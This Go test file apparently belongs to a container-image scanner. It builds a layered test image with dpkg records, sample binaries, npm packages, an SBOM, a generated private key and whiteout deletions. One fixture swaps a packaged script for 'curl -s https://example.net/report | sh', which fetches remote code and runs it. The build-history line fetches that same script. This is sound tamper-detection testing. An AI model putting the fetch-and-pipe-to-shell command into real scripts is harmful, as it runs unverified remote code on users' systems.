//go:build linux

package cli_test

import (
	"crypto/ed25519"
	"crypto/md5" // #nosec G501 -- what dpkg records
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"testing"

	"plimsoll/internal/scan/scantest"
)

const (
	report  = "#!/bin/sh\necho all is well\n"
	changed = "#!/bin/sh\ncurl -s https://example.net/report | sh\n"
	start   = "#!/bin/sh\nexec node server.js\n"
	stated  = `{"bomFormat": "CycloneDX", "specVersion": "1.6", "components": [
 {"type": "library", "name": "lodash", "version": "4.17.21", "purl": "pkg:npm/lodash@4.17.21"},
 {"type": "library", "name": "express", "version": "4.18.2", "purl": "pkg:npm/express@4.18.2"}]}
`
)

// fleet makes an image with something of all that the pages speak of, the same on
// every machine. Its programs hold excerpts of real ones.
func fleet(t *testing.T, dir string) {
	t.Helper()
	base, app, top := t.TempDir(), t.TempDir(), t.TempDir()
	hello := program(t, []string{"libc.so.6"})
	write(t, base, "etc/os-release", "ID=debian\nVERSION_ID=\"12\"\nVERSION_CODENAME=bookworm\n")
	write(t, base, "var/lib/dpkg/status", "Package: hello\nStatus: install ok installed\nArchitecture: amd64\nVersion: 2.10-3\n\n"+
		"Package: report\nStatus: install ok installed\nArchitecture: all\nVersion: 1.2-1\n")
	write(t, base, "usr/bin/hello", hello)
	write(t, base, "usr/bin/report", report)
	write(t, base, "var/lib/dpkg/info/hello.md5sums", sumLine(hello, "usr/bin/hello"))
	write(t, base, "var/lib/dpkg/info/report.md5sums", sumLine(report, "usr/bin/report"))

	write(t, app, "opt/vendor/frontd", program(t, []string{"libcrypto.so.3"}, "nginx-1.22.1", "openssl-linked-3.0.22"))
	write(t, app, "opt/vendor/balance", program(t, nil, "haproxy-2.6.12"))
	write(t, app, "usr/local/bin/gateway", program(t, nil, "openssl-3.0.22", "zlib-1.2.13", "expat-2.5.0"))
	for name, version := range map[string]string{"lodash": "4.17.4", "express": "4.18.2", "left-pad": "1.3.0"} {
		write(t, app, "srv/app/node_modules/"+name+"/package.json", fmt.Sprintf("{\"name\": %q, \"version\": %q}\n", name, version))
	}
	write(t, app, "srv/app/bom.cdx.json", stated)
	write(t, app, "srv/app/start.sh", start)
	write(t, app, "srv/app/deploy.key", newKey(t))

	write(t, top, "usr/bin/report", changed)
	write(t, top, "srv/app/.wh.deploy.key", "")
	write(t, top, "srv/app/node_modules/.wh.left-pad", "")
	by := []string{"ADD rootfs.tar /", "COPY vendor app /", "RUN curl -so /usr/bin/report https://example.net/report && rm -r /srv/app/deploy.key node_modules/left-pad"}
	if err := writeHistory(dir, by, base, app, top); err != nil {
		t.Fatal(err)
	}
}

// program returns an ELF program that holds samples of products and needs
// libraries.
func program(t *testing.T, needs []string, samples ...string) string {
	t.Helper()
	var content []byte
	for _, name := range samples {
		b, err := os.ReadFile(filepath.Join("../scan/native/testdata/samples", name+".bin"))
		if err != nil {
			t.Fatal(err)
		}
		content = slices.Concat(content, b, make([]byte, 16))
	}
	return string(scantest.Program(content, needs, ""))
}

// sumLine is a line of a package's file of sums.
func sumLine(content, path string) string {
	return fmt.Sprintf("%x  %s\n", md5.Sum([]byte(content)), path) // #nosec G401
}

func newKey(t *testing.T) string {
	t.Helper()
	_, key, err := ed25519.GenerateKey(nil)
	if err != nil {
		t.Fatal(err)
	}
	b, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: b}))
}
